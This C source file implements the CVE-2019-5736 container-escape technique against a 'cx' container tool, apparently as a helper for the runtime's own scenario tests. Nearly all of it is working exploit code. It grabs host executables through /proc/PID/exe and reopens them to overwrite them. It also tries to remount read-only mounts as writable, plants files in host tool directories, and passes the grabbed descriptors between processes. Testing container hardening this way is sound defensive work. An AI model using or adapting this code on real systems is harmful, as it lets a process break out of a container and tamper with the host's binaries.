/* helper-grab: the CVE-2019-5736 attack on a cx tool, for the scenario
 * tests.  Run as root inside a container, with CAP_SYS_PTRACE (which
 * lets it open /proc/PID/exe of a process that is not dumpable), it
 * watches the container's /proc for processes whose executable comes
 * from outside the container: from no mount of the container's own
 * mount table (a host file, a detached read-only view of one, a memfd).
 * Those are the cx tools that joined or stayed in sight; a name would
 * not do, as a view of a single file reads "/".  It opens each one's
 * /proc/PID/exe with O_PATH and keeps the descriptor.  Then, again and
 * again, and once more after the process has gone, it reopens
 * /proc/self/fd/K for writing (O_WRONLY, then O_RDWR) and writes a
 * marker at offset 0.  While a file is executed the kernel refuses
 * (ETXTBSY); afterwards only a read-only mount (EROFS) or a seal
 * (EPERM on the write) stands between the container and the host's
 * file.
 *
 * Usage:
 *   helper-grab [OPTIONS]               grab, inside the container
 *   helper-grab --receive SOCK [OPTIONS] try the writes with the
 *                                       descriptors another helper-grab
 *                                       sends: a process that outlives
 *                                       the container it came from
 * Options:
 *   --seconds N   give up after N seconds (20)
 *   --count C     stop looking once C processes are grabbed
 *   --stop FILE   finish (one last try) once FILE exists
 *   --ready FILE  write "ready" to FILE once the watch (or the socket)
 *                 is up
 *   --remount     on EROFS, also try to make the mount writable:
 *                 mount_setattr(2) on the descriptor, and on a clone of
 *                 its mount from open_tree(2) (needs CAP_SYS_ADMIN)
 *   --send SOCK   at the end, hand the descriptors to SOCK (SCM_RIGHTS)
 * SOCK is a path, or @NAME for an abstract socket (shared by every
 * process of one network namespace).
 *
 * Prints "grab pid=P comm=COMM exe=NAME" for each new file, then one line:
 *   grabbed=G held=H opened_for_write=W sealed_opened=S wrote=X
 *   remounted=M tries=T tried_after_exit=A errors=ETXTBSY:n,...
 * (received=R in place of grabbed and held with --receive).
 * opened_for_write counts writable openings of files that are not
 * write-sealed: such an opening is the escape already (O_TRUNC would
 * empty the host's file).  A write-sealed memfd may be opened for
 * writing, but no byte of it can change (write and mmap fail with
 * EPERM): those openings are sealed_opened.  Exit 0; 125 on a usage
 * error or a failed setup step. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <stdnoreturn.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

#ifndef SYS_open_tree
#define SYS_open_tree 428
#endif
#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_mount_setattr
#define SYS_mount_setattr 442
#endif
#ifndef STATX_MNT_ID
#define STATX_MNT_ID 0x00001000U
#endif
#ifndef F_GET_SEALS
#define F_GET_SEALS 1034
#endif
#ifndef F_SEAL_WRITE
#define F_SEAL_WRITE 0x0008
#endif

/* <linux/mount.h>, which clashes with the C library's <sys/mount.h>. */
struct grab_mount_attr {
	uint64_t attr_set, attr_clr, propagation, userns_fd;
};
#define GRAB_MOUNT_ATTR_RDONLY 0x00000001
#define GRAB_OPEN_TREE_CLONE 1

enum { MAX_HELD = 64, MAX_SEEN = 8192, MAX_ERRS = 32 };

static const char marker[] = "CX-GRAB\n";

struct held {
	int fd;		/* O_PATH, the grabbed executable */
	int pidfd;	/* its process at the last grab, or -1 */
	dev_t dev;
	ino_t ino;
	bool written, remount_tried;
};

static struct held held[MAX_HELD];
static int nheld;
static long grabbed, opened_for_write, sealed_opened, wrote, remounted,
	tries, tried_after_exit;
static bool remount;

static struct {
	char name[32];
	long n;
} errs[MAX_ERRS];
static int nerrs;

static noreturn void die(const char *what)
{
	fprintf(stderr, "helper-grab: %s: %s\n", what, strerror(errno));
	exit(125);
}

static const char *errno_name(int err)
{
	static const struct {
		int err;
		const char *name;
	} names[] = {
		{ EPERM, "EPERM" }, { ENOENT, "ENOENT" }, { ESRCH, "ESRCH" },
		{ EBADF, "EBADF" }, { EACCES, "EACCES" }, { EBUSY, "EBUSY" },
		{ EEXIST, "EEXIST" }, { EXDEV, "EXDEV" }, { ENODEV, "ENODEV" },
		{ ENOTDIR, "ENOTDIR" }, { EISDIR, "EISDIR" }, { EINVAL, "EINVAL" },
		{ ETXTBSY, "ETXTBSY" }, { EROFS, "EROFS" }, { ELOOP, "ELOOP" },
		{ ENOSYS, "ENOSYS" }, { ENXIO, "ENXIO" }, { EOPNOTSUPP, "EOPNOTSUPP" },
	};
	static char buf[16];

	for (size_t i = 0; i < sizeof(names) / sizeof(*names); i++)
		if (names[i].err == err)
			return names[i].name;
	snprintf(buf, sizeof(buf), "E%d", err);
	return buf;
}

/* One more failure of kind PREFIX (empty for the opens and writes). */
static void count_err(const char *prefix, int err)
{
	char name[32];
	int i;

	snprintf(name, sizeof(name), "%s%s", prefix, errno_name(err));
	for (i = 0; i < nerrs; i++)
		if (!strcmp(errs[i].name, name))
			break;
	if (i == nerrs) {
		if (nerrs == MAX_ERRS)
			return;
		snprintf(errs[nerrs++].name, sizeof(errs[0].name), "%s", name);
	}
	errs[i].n++;
}

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static bool exists(const char *path)
{
	return path && access(path, F_OK) == 0;
}

static bool gone(const struct held *h)
{
	struct pollfd p = { .fd = h->pidfd, .events = POLLIN };

	return h->pidfd >= 0 && poll(&p, 1, 0) > 0;
}

/* With CAP_SYS_ADMIN: make the mount of H writable, or a clone of it. */
static bool try_remount(struct held *h)
{
	struct grab_mount_attr a = { .attr_clr = GRAB_MOUNT_ATTR_RDONLY };
	int clone;

	h->remount_tried = true;
	if (syscall(SYS_mount_setattr, h->fd, "", AT_EMPTY_PATH, &a,
		    sizeof(a)) == 0)
		return true;
	count_err("mount_setattr-", errno);
	clone = (int)syscall(SYS_open_tree, h->fd, "",
			     GRAB_OPEN_TREE_CLONE | O_CLOEXEC | AT_EMPTY_PATH);
	if (clone < 0) {
		count_err("open_tree-", errno);
		return false;
	}
	if (syscall(SYS_mount_setattr, clone, "", AT_EMPTY_PATH, &a,
		    sizeof(a)) < 0) {
		count_err("mount_setattr-clone-", errno);
		close(clone);
		return false;
	}
	close(h->fd);
	h->fd = clone;
	return true;
}

/* Reopen H for writing, both ways, and write the marker. */
static void try_write(struct held *h)
{
	static const int modes[] = { O_WRONLY, O_RDWR };
	char path[64];

	if (h->written)
		return;
	if (gone(h))
		tried_after_exit++;
	for (size_t i = 0; i < sizeof(modes) / sizeof(*modes); i++) {
		int w, seals;

		snprintf(path, sizeof(path), "/proc/self/fd/%d", h->fd);
		tries++;
		w = open(path, modes[i] | O_CLOEXEC);
		if (w < 0 && errno == EROFS && remount && !h->remount_tried) {
			count_err("", EROFS);
			if (!try_remount(h))
				continue;
			remounted++;
			snprintf(path, sizeof(path), "/proc/self/fd/%d", h->fd);
			w = open(path, modes[i] | O_CLOEXEC);
		}
		if (w < 0) {
			count_err("", errno);
			continue;
		}
		seals = fcntl(w, F_GET_SEALS);
		if (seals >= 0 && (seals & F_SEAL_WRITE))
			sealed_opened++;
		else
			opened_for_write++;
		if (pwrite(w, marker, sizeof(marker) - 1, 0) ==
		    (ssize_t)sizeof(marker) - 1) {
			wrote++;
			h->written = true;
		} else {
			count_err("write-", errno);
		}
		close(w);
		if (h->written)
			return;
	}
}

static void try_all(void)
{
	for (int i = 0; i < nheld; i++)
		try_write(&held[i]);
}

/* The mount IDs of the container's mount table. */
static uint64_t mounts[1024];
static int nmounts;

static void read_mounts(void)
{
	FILE *f = fopen("/proc/self/mountinfo", "re");
	unsigned long long id;
	char line[4096];

	if (!f)
		die("open /proc/self/mountinfo");
	nmounts = 0;
	while (fgets(line, sizeof(line), f))
		if (sscanf(line, "%llu", &id) == 1 && nmounts < 1024)
			mounts[nmounts++] = id;
	fclose(f);
}

/* FD's file lies on no mount of the container's. */
static bool foreign(int fd)
{
	struct statx stx;

	if (statx(fd, "", AT_EMPTY_PATH, STATX_MNT_ID, &stx) < 0)
		die("statx");
	if (!(stx.stx_mask & STATX_MNT_ID)) {
		errno = ENOSYS;
		die("statx: no mount ID (before 5.8)");
	}
	for (int i = 0; i < nmounts; i++)
		if (mounts[i] == stx.stx_mnt_id)
			return false;
	return true;
}

/* Keep FD, a cx tool's executable that process PID runs, once per file. */
static void hold(int fd, pid_t pid, const char *link, const char *comm)
{
	struct stat st;
	int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
	int i;

	grabbed++;
	if (fstat(fd, &st) < 0)
		die("fstat");
	for (i = 0; i < nheld; i++)
		if (held[i].dev == st.st_dev && held[i].ino == st.st_ino)
			break;
	if (i < nheld) {
		close(fd);
		if (pidfd >= 0) {
			if (held[i].pidfd >= 0)
				close(held[i].pidfd);
			held[i].pidfd = pidfd;
		}
		return;
	}
	if (nheld == MAX_HELD) {
		close(fd);
		if (pidfd >= 0)
			close(pidfd);
		return;
	}
	held[nheld++] = (struct held){ .fd = fd, .pidfd = pidfd,
				       .dev = st.st_dev, .ino = st.st_ino };
	printf("grab pid=%d comm=%s exe=%s\n", (int)pid, comm, link);
	fflush(stdout);
}

/* The pids looked at already: each is decided once. */
static pid_t seen[MAX_SEEN];
static int nseen;

static bool was_seen(pid_t pid)
{
	for (int i = nseen - 1; i >= 0; i--)
		if (seen[i] == pid)
			return true;
	return false;
}

/* A directory that PID holds open outside the container's mounts (a
 * tool directory passed down a chain): with --remount make its mount
 * writable, then write into every cx-* file in it and plant a new
 * one.  Each success counts as opened_for_write and wrote. */
static long dirs;

static void attack_dir(int dfd)
{
	struct grab_mount_attr a = { .attr_clr = GRAB_MOUNT_ATTR_RDONLY };
	struct dirent *d;
	DIR *dir;
	int lfd;

	dirs++;
	if (remount) {
		if (syscall(SYS_mount_setattr, dfd, "", AT_EMPTY_PATH, &a,
			    sizeof(a)) == 0)
			remounted++;
		else
			count_err("dir-mount_setattr-", errno);
	}
	lfd = openat(dfd, ".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (lfd < 0 || !(dir = fdopendir(lfd))) {
		count_err("dir-open-", errno);
		if (lfd >= 0)
			close(lfd);
		return;
	}
	while ((d = readdir(dir))) {
		int w;

		if (strncmp(d->d_name, "cx-", 3))
			continue;
		tries++;
		w = openat(dfd, d->d_name, O_WRONLY | O_CLOEXEC);
		if (w < 0) {
			count_err("dir-", errno);
			continue;
		}
		opened_for_write++;
		if (pwrite(w, marker, sizeof(marker) - 1, 0) > 0)
			wrote++;
		close(w);
	}
	closedir(dir);
	tries++;
	lfd = openat(dfd, "cx-grab-planted", O_WRONLY | O_CREAT | O_EXCL |
					       O_CLOEXEC, 0755);
	if (lfd < 0) {
		count_err("dir-plant-", errno);
		return;
	}
	opened_for_write++;
	wrote++;
	close(lfd);
	unlinkat(dfd, "cx-grab-planted", 0);
}

static void grab_dirs(pid_t pid)
{
	char path[64];
	struct dirent *d;
	DIR *dir;

	snprintf(path, sizeof(path), "/proc/%d/fd", (int)pid);
	if (!(dir = opendir(path)))
		return;
	while ((d = readdir(dir))) {
		char fdpath[64 + sizeof(d->d_name)];
		int dfd;

		if (d->d_name[0] == '.')
			continue;
		snprintf(fdpath, sizeof(fdpath), "%s/%s", path, d->d_name);
		dfd = open(fdpath, O_PATH | O_DIRECTORY | O_CLOEXEC);
		if (dfd < 0)
			continue;
		if (foreign(dfd))
			attack_dir(dfd);
		close(dfd);
	}
	closedir(dir);
}

/* 1 if PID exists (and is now decided), 0 if it does not (yet). */
static int try_pid(pid_t pid)
{
	char path[64], link[4096], comm[64];
	ssize_t n;
	int fd, cfd;

	if (was_seen(pid))
		return 1;
	snprintf(path, sizeof(path), "/proc/%d/exe", (int)pid);
	fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0) {
		if (errno == ENOENT || errno == ESRCH)
			return 0;
		count_err("grab-", errno);
		if (nseen < MAX_SEEN)
			seen[nseen++] = pid;
		return 1;
	}
	if (nseen < MAX_SEEN)
		seen[nseen++] = pid;
	if (!foreign(fd)) {
		close(fd);
		return 1;
	}
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	n = readlink(path, link, sizeof(link) - 1);
	link[n < 0 ? 0 : n] = '\0';
	snprintf(path, sizeof(path), "/proc/%d/comm", (int)pid);
	comm[0] = '\0';
	if ((cfd = open(path, O_RDONLY | O_CLOEXEC)) >= 0) {
		n = read(cfd, comm, sizeof(comm) - 1);
		comm[n < 0 ? 0 : n] = '\0';
		comm[strcspn(comm, "\n")] = '\0';
		close(cfd);
	}
	hold(fd, pid, link, comm);
	grab_dirs(pid);
	return 1;
}

/* Every process in /proc; returns the highest pid. */
static pid_t full_scan(void)
{
	pid_t self = getpid(), max = 0;
	DIR *d = opendir("/proc");
	struct dirent *e;

	if (!d)
		die("opendir /proc");
	read_mounts();
	while ((e = readdir(d))) {
		char *end;
		long pid = strtol(e->d_name, &end, 10);

		if (*end || pid <= 0 || pid == self)
			continue;
		if (pid > max)
			max = (pid_t)pid;
		try_pid((pid_t)pid);
	}
	closedir(d);
	return max;
}

/* Say "ready" in PATH: not empty, so that a waiter can test -s. */
static void say_ready(const char *path)
{
	int fd;

	if (!path)
		return;
	fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
	if (fd < 0 || write(fd, "ready\n", 6) != 6)
		die(path);
	close(fd);
}

static socklen_t sock_addr(const char *name, struct sockaddr_un *a)
{
	size_t len = strlen(name);

	memset(a, 0, sizeof(*a));
	a->sun_family = AF_UNIX;
	if (len >= sizeof(a->sun_path)) {
		errno = ENAMETOOLONG;
		die(name);
	}
	memcpy(a->sun_path, name, len);
	if (name[0] == '@')
		a->sun_path[0] = '\0';	/* abstract: no file, no NUL at the end */
	return (socklen_t)(offsetof(struct sockaddr_un, sun_path) + len +
			   (name[0] != '@'));
}

static void send_fds(const char *name)
{
	union {
		char buf[CMSG_SPACE(sizeof(int) * MAX_HELD)];
		struct cmsghdr align;
	} u;
	struct sockaddr_un a;
	socklen_t len = sock_addr(name, &a);
	char byte = (char)nheld;
	struct iovec iov = { &byte, 1 };
	struct msghdr m = { .msg_iov = &iov, .msg_iovlen = 1 };
	struct cmsghdr *c;
	int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

	if (s < 0 || connect(s, (struct sockaddr *)&a, len) < 0)
		die("connect");
	if (nheld) {
		memset(&u, 0, sizeof(u));
		m.msg_control = u.buf;
		m.msg_controllen = CMSG_SPACE(sizeof(int) * (size_t)nheld);
		c = CMSG_FIRSTHDR(&m);
		c->cmsg_level = SOL_SOCKET;
		c->cmsg_type = SCM_RIGHTS;
		c->cmsg_len = CMSG_LEN(sizeof(int) * (size_t)nheld);
		for (int i = 0; i < nheld; i++)
			memcpy(CMSG_DATA(c) + i * sizeof(int), &held[i].fd,
			       sizeof(int));
	}
	if (sendmsg(s, &m, MSG_NOSIGNAL) != 1)
		die("sendmsg");
	close(s);
	printf("sent=%d\n", nheld);
}

static void print_errors(void)
{
	printf(" errors=");
	for (int i = 0; i < nerrs; i++)
		printf("%s%s:%ld", i ? "," : "", errs[i].name, errs[i].n);
	printf("\n");
}

struct args {
	double seconds;
	long count;
	const char *stop, *ready, *send, *receive;
};

static int grab(const struct args *a)
{
	double end = now() + a->seconds, next_try = 0, next_scan = 0;
	pid_t next = full_scan() + 1;
	bool looking = true;

	say_ready(a->ready);
	for (;;) {
		double t = now();

		if (looking) {
			/* The next pids the namespace hands out: a forked
			 * cx tool lives only until its exec. */
			for (pid_t p = next; p < next + 4; p++)
				if (try_pid(p))
					next = p + 1;
			if (a->count && grabbed >= a->count)
				looking = false;
		}
		if (t >= next_try) {
			try_all();
			next_try = t + 0.002;
		}
		if (t >= next_scan) {
			pid_t max;

			if (exists(a->stop) || t >= end)
				break;
			if (looking && (max = full_scan()) >= next)
				next = max + 1;
			next_scan = t + 0.02;
		}
		if (!looking)
			usleep(1000);
	}
	/* The last try: whatever ran the files has exited by now. */
	try_all();
	if (a->send)
		send_fds(a->send);
	printf("grabbed=%ld held=%d dirs=%ld opened_for_write=%ld sealed_opened=%ld wrote=%ld remounted=%ld tries=%ld tried_after_exit=%ld",
	       grabbed, nheld, dirs, opened_for_write, sealed_opened, wrote,
	       remounted, tries, tried_after_exit);
	print_errors();
	return 0;
}

static int receive(const struct args *a)
{
	union {
		char buf[CMSG_SPACE(sizeof(int) * MAX_HELD)];
		struct cmsghdr align;
	} u;
	struct sockaddr_un addr;
	socklen_t len = sock_addr(a->receive, &addr);
	char byte;
	struct iovec iov = { &byte, 1 };
	struct msghdr m = { .msg_iov = &iov, .msg_iovlen = 1,
			    .msg_control = u.buf,
			    .msg_controllen = sizeof(u.buf) };
	double end = now() + a->seconds;
	struct pollfd p;
	int s, c;

	s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (s < 0 || bind(s, (struct sockaddr *)&addr, len) < 0 ||
	    listen(s, 1) < 0)
		die("listen");
	say_ready(a->ready);
	p = (struct pollfd){ .fd = s, .events = POLLIN };
	if (poll(&p, 1, (int)(a->seconds * 1000)) != 1) {
		errno = ETIMEDOUT;
		die("accept");
	}
	c = accept4(s, NULL, NULL, SOCK_CLOEXEC);
	if (c < 0 || recvmsg(c, &m, MSG_CMSG_CLOEXEC) != 1)
		die("recvmsg");
	for (struct cmsghdr *h = CMSG_FIRSTHDR(&m); h; h = CMSG_NXTHDR(&m, h)) {
		size_t n = (h->cmsg_len - CMSG_LEN(0)) / sizeof(int);

		if (h->cmsg_level != SOL_SOCKET || h->cmsg_type != SCM_RIGHTS)
			continue;
		for (size_t i = 0; i < n && nheld < MAX_HELD; i++) {
			int fd;

			memcpy(&fd, CMSG_DATA(h) + i * sizeof(int), sizeof(int));
			held[nheld++] = (struct held){ .fd = fd, .pidfd = -1 };
		}
	}
	close(c);
	close(s);
	while (!exists(a->stop) && now() < end) {
		try_all();
		usleep(2000);
	}
	try_all();
	printf("received=%d opened_for_write=%ld sealed_opened=%ld wrote=%ld remounted=%ld tries=%ld",
	       nheld, opened_for_write, sealed_opened, wrote, remounted, tries);
	print_errors();
	return 0;
}

static noreturn void usage(void)
{
	fprintf(stderr, "usage: helper-grab [--receive SOCK] [--seconds N] [--count C] [--stop FILE] [--ready FILE] [--remount] [--send SOCK]\n");
	exit(125);
}

int main(int argc, char **argv)
{
	struct args a = { .seconds = 20 };

	for (int i = 1; i < argc; i++) {
		const char *o = argv[i], *v = i + 1 < argc ? argv[i + 1] : NULL;

		if (!strcmp(o, "--remount")) {
			remount = true;
			continue;
		}
		if (!v)
			usage();
		i++;
		if (!strcmp(o, "--seconds"))
			a.seconds = atof(v);
		else if (!strcmp(o, "--count"))
			a.count = atol(v);
		else if (!strcmp(o, "--stop"))
			a.stop = v;
		else if (!strcmp(o, "--ready"))
			a.ready = v;
		else if (!strcmp(o, "--send"))
			a.send = v;
		else if (!strcmp(o, "--receive"))
			a.receive = v;
		else
			usage();
	}
	if (a.seconds <= 0)
		usage();
	return a.receive ? receive(&a) : grab(&a);
}
